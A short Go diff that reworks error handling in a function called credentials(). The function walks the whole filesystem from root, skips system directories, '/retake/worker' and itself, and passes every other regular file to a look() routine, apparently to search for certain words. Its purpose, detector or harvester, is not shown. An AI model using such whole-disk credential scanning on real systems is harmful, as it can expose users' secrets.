@@ -219,11 +219,9 @@ func credentials() (said []string) {
 	self, _ := os.Executable()
 	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
 		switch {
-		case err != nil:
-			return nil
 		case path == "/proc" || path == "/sys" || path == "/dev" || path == "/usr/local/go":
 			return fs.SkipDir
-		case d.Type().IsRegular() && path != "/retake/worker" && path != self: // which know the words
+		case err == nil && d.Type().IsRegular() && path != "/retake/worker" && path != self: // which know the words
 			look(path)
 		}
 		return nil
